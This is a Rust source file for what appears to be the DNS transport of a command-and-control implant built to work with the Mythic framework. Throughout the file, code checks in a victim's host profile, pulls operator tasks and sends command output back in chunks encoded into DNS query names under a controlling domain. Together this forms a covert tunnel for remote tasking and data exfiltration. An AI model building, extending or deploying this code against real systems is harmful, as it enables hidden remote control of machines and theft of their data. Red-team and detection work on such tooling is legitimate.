//! Mythic-compatible grammar.
//!
//! Data-bearing labels use `-` separators so payload text never collides
//! with label dots. Tasking is correlated: the task id captured at the most
//! recent successful tasking parse rides inside every response for it.

use async_trait::async_trait;
use tracing::debug;
use ulid::Ulid;

use super::Dialect;
use crate::{
    chunk::ChunkSender,
    encoding,
    messages::{CheckinMessage, HostProfile, Task, TaskResponse},
    transport::LookupClient,
    Result,
};

/// Raw bytes per response chunk; tighter than the bespoke grammar because
/// the uuid and chunk index ride in the same label stack.
pub const CHUNK_SIZE: usize = 15;

pub struct MythicDialect {
    address: String,
    uuid: String,
    client: LookupClient,
    /// Single slot, overwritten by each successful tasking parse.
    current_task: Option<String>,
}

impl MythicDialect {
    pub fn new(address: String, client: LookupClient) -> Self {
        MythicDialect {
            address,
            uuid: Ulid::new().to_string(),
            client,
            current_task: None,
        }
    }

    pub fn uuid(&self) -> &str {
        &self.uuid
    }

    fn response_name(&self, index: usize, chunk: &str) -> String {
        format!("response-{}-{index}-{chunk}.{}", self.uuid, self.address)
    }
}

#[async_trait]
impl Dialect for MythicDialect {
    async fn probe(&self) -> Result<bool> {
        // The check-in handshake doubles as the reachability test here.
        Ok(true)
    }

    async fn check_in(&mut self, profile: &HostProfile) -> Result<()> {
        let message = CheckinMessage::from_profile(profile, &self.uuid);
        let encoded = encoding::encode(&serde_json::to_vec(&message)?);
        let name = format!("checkin-{encoded}.{}", self.address);

        let answer = self.client.lookup(&name).await?;
        debug!(%answer, "check-in answered");
        Ok(())
    }

    async fn request_tasking(&mut self) -> Result<Option<String>> {
        let name = format!("tasking-{}.{}", self.uuid, self.address);
        let Some(answer) = self.client.lookup_opt(&name).await else {
            return Ok(None);
        };

        let bytes = match encoding::decode(&answer) {
            Ok(bytes) => bytes,
            Err(e) => {
                debug!(error = %e, "tasking answer did not decode, treating as idle");
                return Ok(None);
            }
        };
        let task: Task = match serde_json::from_slice(&bytes) {
            Ok(task) => task,
            Err(e) => {
                debug!(error = %e, "tasking answer was not a task, treating as idle");
                return Ok(None);
            }
        };

        debug!(task_id = %task.id, command = %task.command, "tasking received");
        self.current_task = Some(task.id.clone());
        Ok(Some(task.command_line()))
    }

    async fn send_result(&mut self, result: &str) -> Result<()> {
        let response = TaskResponse {
            task_id: self.current_task.clone().unwrap_or_default(),
            user_output: result.to_string(),
            completed: true,
        };
        let payload = serde_json::to_vec(&response)?;

        ChunkSender::new(&self.client, CHUNK_SIZE)
            .send(&payload, |index, chunk| self.response_name(index, chunk))
            .await
    }
}
